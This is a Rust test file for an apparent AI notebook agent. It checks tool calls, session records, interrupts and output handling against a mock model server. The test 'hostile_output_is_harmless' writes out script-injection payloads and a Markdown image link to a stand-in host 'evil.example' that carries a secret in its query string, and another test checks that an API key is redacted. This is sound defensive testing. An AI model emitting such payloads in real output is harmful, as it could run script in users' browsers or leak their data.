//! What a turn does when all goes well, when it is stopped, and when the model is hostile.

use std::time::{Duration, Instant};

use codriver::agent::TurnOptions;
use serde_json::json;

use super::helpers::{Desk, Person, asked, calls, last_message, says};
use super::server::{Answer, Server};

const SALES: &str = "CREATE TABLE sales AS SELECT * FROM (VALUES ('north', 10), ('south', 32)) AS t(region, amount)";

#[test]
fn a_tool_is_called_and_its_result_becomes_the_answer() {
    let server = Server::start([
        calls("sql", json!({ "query": "SELECT sum(amount) AS total FROM sales" })),
        says("The total is **42**."),
    ]);
    let mut desk = Desk::new();
    desk.sql(SALES);
    let report = desk.ask(&server, "What is the total?").unwrap();

    assert_eq!(report.answer, "The total is **42**.");
    assert_eq!(report.agent, "codriver");
    assert_eq!((report.usage.prompt_tokens, report.usage.completion_tokens), (150, 15));
    assert_eq!(report.tool_runs.len(), 1);
    assert_eq!(report.tool_runs[0].status, "ok");

    // The model was told of the table, given the tools, and then the rows.
    assert_eq!(server.seen()[0].path, "/v1/chat/completions");
    let first = &server.seen()[0].body;
    let (known, request) = asked(&server, 0);
    assert!(known.contains("sales(region VARCHAR ['north', 'south'], amount INTEGER"), "{known}");
    assert_eq!(request, "What is the total?");
    let tools: Vec<&str> =
        first["tools"].as_array().unwrap().iter().map(|tool| tool["function"]["name"].as_str().unwrap()).collect();
    assert!(tools.contains(&"sql") && tools.contains(&"git_log") && tools.contains(&"recall"), "{tools:?}");
    assert_eq!(last_message(&server, 1)["role"], "tool");
    assert_eq!(last_message(&server, 1)["content"], "total\n42\n(1 row)");

    // The person sees the answer as Markdown, and a folded card of the call and of the context.
    let answers = desk.displays_of("answer");
    assert_eq!(answers.len(), 1);
    assert!(answers[0].data["text/html"].as_str().unwrap().contains("<strong>42</strong>"));
    assert_eq!(answers[0].text(), "The total is **42**.");
    let tools = desk.displays_of("tool");
    let card = tools[0].data["text/html"].as_str().unwrap();
    assert!(
        card.starts_with("<details")
            && card.contains("SELECT sum(amount) AS total FROM sales")
            && card.contains(">42<"),
        "{card}"
    );
    assert!(card.contains("var(--jp-"), "{card}");
    assert!(tools[0].text().contains("✓ sql SELECT sum(amount)"), "{}", tools[0].text());
    let context = desk.displays_of("context");
    assert!(context[0].text().contains("table"), "{}", context[0].text());
}

#[test]
fn what_changes_from_run_to_run_stays_out_of_the_text() {
    let outputs: Vec<_> = (0..2)
        .map(|_| {
            let server = Server::start([calls("sql", json!({ "query": "SELECT 1 AS one" })), says("It is one.")]);
            let mut desk = Desk::new();
            desk.sql(SALES);
            desk.ask(&server, "What is one?").unwrap();
            let shown = desk.displays();
            let answer = desk.displays_of("answer").remove(0);
            let details = &answer.metadata["codriver"];
            assert_eq!(details["prompt_tokens"], 100);
            assert!(details["milliseconds"].is_u64() && details["model"].is_string());
            shown.into_iter().map(|bundle| bundle.data).collect::<Vec<_>>()
        })
        .collect();
    assert_eq!(outputs[0], outputs[1]);
}

#[test]
fn everything_is_recorded() {
    let server = Server::start([calls("sql", json!({ "query": "SELECT count(*) FROM sales" })), says("Two rows.")]);
    let mut desk = Desk::new();
    desk.sql(SALES);
    desk.ask(&server, "How many rows?").unwrap();

    let conversation = desk.session.memory.conversations(1).unwrap().remove(0);
    assert_eq!((conversation.agent.as_str(), conversation.turns), ("codriver", 1));
    let turn = desk.session.memory.last_turn(&conversation.id).unwrap().unwrap().turn;
    assert_eq!((turn.request.as_str(), turn.answer.as_str()), ("How many rows?", "Two rows."));
    assert_eq!((turn.prompt_tokens, turn.completion_tokens), (150, 15));
    let roles: Vec<&str> = turn.messages.iter().map(|message| message.role.as_str()).collect();
    assert_eq!(roles, ["user", "assistant", "tool", "assistant"]);
    assert!(turn.context.iter().any(|item| item.kind == "table" && item.title == "sales" && item.dropped.is_none()));
    assert!(turn.prompt.contains("model call 2"), "both prompts are kept");
    let runs = desk.session.memory.tool_runs(&conversation.id, 10).unwrap();
    assert_eq!(runs.len(), 1);
    assert_eq!((runs[0].run.tool.as_str(), runs[0].status.as_str()), ("sql", "ok"));
    assert_eq!(runs[0].run.policy, "allowed: reads only");
    assert!(runs[0].result.contains("(1 row)"));
}

#[test]
fn context_shows_what_the_model_saw() {
    let server = Server::start([says("Fine.")]);
    let mut desk = Desk::new();
    desk.sql(SALES);
    desk.ask(&server, "All well?").unwrap();
    let sent = format!("{:#}", server.seen()[0].body);
    let shown = desk.cell("%context --prompt").unwrap().result.unwrap();
    assert_eq!(shown.text(), sent, "the prompt that is shown is not the one that was sent");
    desk.cell("%context").unwrap();
    assert!(desk.displays().iter().any(|bundle| bundle.text().contains("sales")), "the table shows the items");
}

#[test]
fn an_interrupt_stops_at_once_and_keeps_what_was_said() {
    let mut slow = says("Once upon a time there was a very long story that never ended.");
    (slow.chunk, slow.pause) = (65, Duration::from_millis(60));
    let server = Server::start([slow]);
    let mut desk = Desk::new();
    let (interrupt, person) = (desk.interrupt.clone(), desk.person.clone());
    let waker = std::thread::spawn(move || {
        while !person.shows("Once upon") {
            std::thread::sleep(Duration::from_millis(10));
        }
        interrupt.trigger();
        Instant::now()
    });
    let error = desk.ask(&server, "Tell me a story").unwrap_err();
    let stopped = Instant::now();
    let triggered = waker.join().unwrap();
    assert_eq!(error.name, "Interrupted");
    assert!(stopped.saturating_duration_since(triggered) < Duration::from_secs(1), "it took too long to stop");

    let said = desk.displays_of("answer").remove(0).text().to_owned();
    assert!(said.starts_with("Once upon") && !said.contains("ended"), "{said}");
    let conversation = desk.session.memory.conversations(1).unwrap().remove(0);
    let turn = desk.session.memory.last_turn(&conversation.id).unwrap().unwrap().turn;
    assert!(turn.answer.starts_with("Once upon") && turn.answer.ends_with("[interrupted]"), "{}", turn.answer);
}

#[test]
fn hostile_output_is_harmless() {
    let hostile = "Hi <script>alert(1)</script><img src=x onerror=alert(2)> ![p](https://evil.example/?q=secret) [x](javascript:alert(3)) ok";
    let server = Server::start([
        calls("sql", json!({ "query": "SELECT '<script>alert(4)</script>' AS \"<b>x</b>\"" })),
        says(hostile),
    ]);
    let mut desk = Desk::new();
    desk.ask(&server, "<script>alert(5)</script>").unwrap();
    desk.cell("%context").unwrap();
    for bundle in desk.displays() {
        let html = bundle.data["text/html"].as_str().unwrap().to_lowercase();
        for bad in ["<script", "<img", "onerror=alert(2)>", "href=\"javascript", "<b>x"] {
            assert!(!html.contains(bad), "{bad} in {html}");
        }
    }
}

#[test]
fn a_key_never_comes_out() {
    let key = "sk-test-0123456789abcdef";
    let workspace = tempfile::tempdir().unwrap();
    fs_err::write(workspace.path().join(".env"), format!("CODRIVER_API_KEY={key}\n")).unwrap();
    let server = Server::start([
        calls("calculate", json!({ "expression": key })),
        says(&format!("Your key is {key} indeed")),
        Answer::json(401, json!({ "error": { "message": format!("bad key {key}") } }).to_string()),
    ]);
    let mut desk = Desk::in_workspace(Person::default(), workspace);
    desk.ask(&server, "Print the key").unwrap();
    let error = desk.ask(&server, "Again").unwrap_err();
    assert_eq!(server.seen()[0].headers["authorization"], format!("Bearer {key}"), "the key is not sent");
    assert!(!format!("{error:?}").contains(key));
    let outputs = format!("{:?}", desk.person.events.lock().unwrap());
    assert!(outputs.contains("Your key is [key] indeed"), "{outputs}");
    assert!(!outputs.contains(key), "an output carries the key");
    let conversation = desk.session.memory.conversations(1).unwrap().remove(0);
    let turns = format!("{:?}", desk.session.memory.turns(&conversation.id, 10).unwrap());
    let runs = format!("{:?}", desk.session.memory.tool_runs(&conversation.id, 10).unwrap());
    assert!(!turns.contains(key) && !runs.contains(key), "the record carries the key");
}

#[test]
fn limits_of_the_line_reach_the_model() {
    let server = Server::start([says("ok")]);
    let mut desk = Desk::new();
    let options = TurnOptions {
        tools: Some(vec!["sql".to_owned(), "calculate".to_owned()]),
        max_tokens: Some(33),
        temperature: Some(0.5),
        seed: Some(7),
        ..TurnOptions::default()
    };
    desk.ask_with(&server, "Hi there, all well?", options).unwrap();
    let body = &server.seen()[0].body;
    assert_eq!((&body["max_tokens"], &body["temperature"], &body["seed"]), (&json!(33), &json!(0.5), &json!(7)));
    assert_eq!(body["tools"].as_array().unwrap().len(), 2);
}

#[test]
fn calls_made_together_run_one_after_the_other() {
    let call = |index: usize, expression: &str| {
        json!({ "index": index, "id": format!("call_{index}"), "type": "function",
                "function": { "name": "calculate", "arguments": json!({ "expression": expression }).to_string() } })
    };
    let both = Answer::stream(&[
        json!({ "choices": [{ "index": 0, "delta": { "content": "Let me compute. ", "tool_calls": [call(0, "6 * 7"), call(1, "1 / 4")] } }] }),
        json!({ "choices": [{ "index": 0, "delta": {}, "finish_reason": "tool_calls" }] }),
    ]);
    let server = Server::start([both, says("42 and a quarter.")]);
    let mut desk = Desk::new();
    let report = desk.ask(&server, "Compute both").unwrap();
    assert_eq!(report.tool_runs.len(), 2);
    let messages = server.seen()[1].body["messages"].clone();
    let results: Vec<(&str, &str)> = messages.as_array().unwrap()[3..]
        .iter()
        .map(|message| (message["tool_call_id"].as_str().unwrap(), message["content"].as_str().unwrap()))
        .collect();
    assert_eq!(results, [("call_0", "6 * 7 = 42"), ("call_1", "1 / 4 = 0.25")]);
    let shown: Vec<String> = desk.displays_of("answer").iter().map(|bundle| bundle.text().to_owned()).collect();
    assert_eq!(shown, ["Let me compute. ", "42 and a quarter."]);
}
